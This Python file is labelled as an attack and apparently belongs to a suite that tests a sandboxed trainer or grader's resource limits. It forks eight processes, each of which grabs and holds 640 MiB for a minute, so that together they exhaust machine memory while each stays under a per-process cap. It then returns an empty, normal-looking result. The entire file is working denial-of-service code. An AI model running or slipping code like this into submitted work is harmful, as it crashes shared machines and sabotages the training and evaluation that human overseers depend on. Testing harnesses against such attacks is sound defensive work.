# attack: shares 5 GiB among eight processes, each of which stays under the limit of one
# group: d
# targets: text tensor trainer
# ends: wrong memory error crashed timeout processes
# control: none: it would take the memory of the machine that runs the control

import contextlib
import os
import time

PROCESSES = 8
BLOCKS = 10
BLOCK = 64 * 2**20
LIVE_S = 60


def _hold():
    with contextlib.suppress(MemoryError):
        kept = [bytes([number + 1]) * BLOCK for number in range(BLOCKS)]
        time.sleep(LIVE_S)
        del kept


def attack(*args, **kwargs):
    for _ in range(PROCESSES):
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                _hold()
                os._exit(0)
    time.sleep(5)  # till they have it
    return {"messages": [], "text": ""}
